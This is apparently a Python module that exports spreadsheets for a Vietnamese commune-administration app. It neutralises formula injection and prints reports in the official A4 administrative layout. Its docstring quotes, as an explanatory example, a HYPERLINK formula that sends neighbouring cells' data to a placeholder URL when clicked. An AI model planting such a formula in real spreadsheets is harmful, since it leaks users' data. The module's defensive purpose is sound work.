"""Cells written from data, for every .xlsx the app makes: text stays text.

openpyxl stores a string that starts with ``=`` as a formula, and a spreadsheet takes a cell
typed as ``+…``, ``-…``, ``@…`` (some also a tab or a carriage return first) as one too: an
address such as ``=HYPERLINK("http://…?d="&B7&C7,"Bấm vào đây")`` would send the
neighbouring cells away on one click. So every string goes in as a string cell (``t="s"``,
which no spreadsheet evaluates), and one that starts with such a character also carries the
quote prefix: the file's own form of the apostrophe typed before text in Excel, shown by
nobody, kept when the cell is edited, so the text stays text even then. The value itself is
unchanged, so what the police fill in and the officer imports reads back as written.

Characters an .xlsx cannot hold (control characters but tab and line breaks) are dropped
rather than failing the whole export.

Below, the Vietnamese administrative layout every list and report sent upward is printed in
(:func:`administrative`).
"""

from datetime import date

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

RISKY = ("=", "+", "-", "@", "\t", "\r")


def append(sheet: Worksheet, values) -> int:
    """Write ``values`` as the row after the last one, as ``sheet.append`` does (strings as
    text, numbers and dates as openpyxl types them); the row's number."""
    values = [_clean(v) for v in values]
    sheet.append(values)
    row = sheet._current_row  # where append wrote
    for column, value in enumerate(values, start=1):
        if isinstance(value, str):
            _as_text(sheet.cell(row=row, column=column))
    return row


def _clean(value):
    return ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value


def _as_text(cell: Cell) -> None:
    if isinstance(cell.value, str):
        cell.data_type = "s"  # openpyxl made "=…" a formula ("f")
        if cell.value.startswith(RISKY):
            cell.quotePrefix = True


# --- The Vietnamese administrative layout ------------------------------------------------
# A list or a report sent upward is a paper of the commune's people's committee: the
# committee on the left and the national name and motto on the right, the title and the
# period, the table, then the place and day and the signers (Decree 30/2020 on
# administrative documents). A sheet written by :func:`administrative` prints as such a paper
# on A4 with no editing; :func:`header`, :func:`table` and :func:`signatures` are its parts,
# for a sheet of several tables (the indicator report).

STATE = "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"
MOTTO = "Độc lập - Tự do - Hạnh phúc"
SIGNERS = ("NGƯỜI LẬP BIỂU", "CHỦ TỊCH UBND XÃ")
SIGN_HINT = "(Ký, ghi rõ họ tên)"
UNITS = ("Xã ", "Phường ", "Đặc khu ")  # how the national list names a commune
THIN = Side(style="thin")
BORDER = Border(left=THIN, right=THIN, top=THIN, bottom=THIN)
HEADING_FILL = PatternFill("solid", fgColor="DDDDDD")
WRAP = Alignment(wrap_text=True, vertical="top")
CENTRE = Alignment(horizontal="center", vertical="center", wrap_text=True)


def committee(commune_name: str) -> str:
    """"UBND XÃ MƯỜNG LA" for "Xã Mường La" (a name without its unit word is a xã)."""
    name = commune_name if commune_name.startswith(UNITS) else f"Xã {commune_name}"
    return f"UBND {name.upper()}"


def place_name(commune_name: str) -> str:
    """"Mường La" for "Xã Mường La": how the place-and-day line names the commune."""
    for unit in UNITS:
        if commune_name.startswith(unit):
            return commune_name[len(unit):]
    return commune_name


def administrative(ws: Worksheet, *, authority: str, title: str, period: str, place: str,
                   day: date, columns, rows, signers=SIGNERS, landscape: bool = False,
                   total: str = "") -> int:
    """Write a whole paper on ``ws``: :func:`header`, :func:`table`, :func:`signatures`, A4
    print settings (:func:`print_setup`). Returns the next free row.

    :param authority: the left heading, :func:`committee` of the commune's name.
    :param period: the line under the title ("Tháng 11/2026", "Tính đến ngày …").
    :param place: the place of the place-and-day line, :func:`place_name`.
    :param day: the day of that line (the day the paper is made).
    :param columns: ``(heading, width)`` pairs, width in Excel's characters.
    :param rows: rows of values (text, numbers, dates shown dd/mm/yyyy).
    :param total: a line under the table ("Tổng số: 12 trẻ"), or none.
    """
    width = len(columns)
    first = header(ws, authority=authority, title=title, period=period, width=width)
    after = table(ws, first, columns, rows)
    if total:
        put(ws, after, 1, width, total, bold=True, align="left")
        after += 1
    end = signatures(ws, after + 1, place=place, day=day, width=width, signers=signers)
    print_setup(ws, first, landscape=landscape)
    return end


def _halves(width: int) -> tuple[tuple[int, int], tuple[int, int]]:
    """The columns of the left and the right block of a ``width``-column paper (a table of
    one column still gets two blocks side by side)."""
    left = max(1, min(width - 1, (width * 2) // 5))
    return (1, left), (left + 1, max(width, left + 1))


def put(ws: Worksheet, row: int, first: int, last: int, value, *, bold=False, italic=False,
        size=None, align="center") -> Cell:
    """``value`` in the cells ``first``..``last`` of ``row``, merged, as text (see above)."""
    cell = ws.cell(row=row, column=first, value=_clean(value))
    _as_text(cell)
    if last > first:
        ws.merge_cells(start_row=row, start_column=first, end_row=row, end_column=last)
    cell.font = Font(bold=bold, italic=italic, size=size)
    cell.alignment = Alignment(horizontal=align, vertical="center", wrap_text=True)
    return cell


def header(ws: Worksheet, *, authority: str, title: str, period: str, width: int,
           row: int = 1) -> int:
    """The committee and the national name, the title and the period, from ``row``; the
    row where a table may start."""
    (l1, l2), (r1, r2) = _halves(width)
    put(ws, row, l1, l2, authority, bold=True)
    put(ws, row, r1, r2, STATE, bold=True)
    put(ws, row + 1, r1, r2, MOTTO, bold=True)
    put(ws, row + 2, l1, l2, "———", align="center")
    put(ws, row + 2, r1, r2, "———————", align="center")
    put(ws, row + 4, 1, width, title, bold=True, size=14)
    put(ws, row + 5, 1, width, period, italic=True)
    return row + 7


def table(ws: Worksheet, row: int, columns, rows) -> int:
    """The headings at ``row`` (bold, shaded, centred) and the rows under them, bordered and
    wrapped, dates as dd/mm/yyyy, column widths set; the first row after it."""
    for column, (heading, width) in enumerate(columns, start=1):
        cell = put(ws, row, column, column, heading, bold=True)
        cell.fill, cell.border, cell.alignment = HEADING_FILL, BORDER, CENTRE
        ws.column_dimensions[get_column_letter(column)].width = width
    current = row
    for values in rows:
        current += 1
        for column, value in enumerate(values, start=1):
            cell = ws.cell(row=current, column=column, value=_clean(value))
            _as_text(cell)
            cell.border, cell.alignment = BORDER, WRAP
            if isinstance(value, date):
                cell.number_format = "DD/MM/YYYY"
    return current + 1


def signatures(ws: Worksheet, row: int, *, place: str, day: date, width: int,
               signers=SIGNERS) -> int:
    """"<place>, ngày dd tháng mm năm yyyy" on the right, then the two signers (left and
    right block) with "(Ký, ghi rõ họ tên)" and room to sign; the next free row."""
    (l1, l2), (r1, r2) = _halves(width)
    put(ws, row, r1, r2, f"{place}, ngày {day.day:02d} tháng {day.month:02d} năm {day.year}",
        italic=True)
    left, right = signers
    put(ws, row + 1, l1, l2, left, bold=True)
    put(ws, row + 1, r1, r2, right, bold=True)
    put(ws, row + 2, l1, l2, SIGN_HINT, italic=True)
    put(ws, row + 2, r1, r2, SIGN_HINT, italic=True)
    return row + 8  # five empty rows to sign in


def print_setup(ws: Worksheet, heading_row: int, *, landscape: bool = False) -> None:
    """A4, portrait or landscape, fitted to the page's width (as many pages down as needed),
    the table's heading row repeated on every page, page numbers in the footer."""
    ws.page_setup.paperSize = ws.PAPERSIZE_A4
    ws.page_setup.orientation = "landscape" if landscape else "portrait"
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0
    ws.print_title_rows = f"{heading_row}:{heading_row}"
    ws.page_margins.left = ws.page_margins.right = 0.5
    ws.page_margins.top = ws.page_margins.bottom = 0.6
    ws.print_options.horizontalCentered = True
    ws.oddFooter.right.text = "Trang &P/&N"
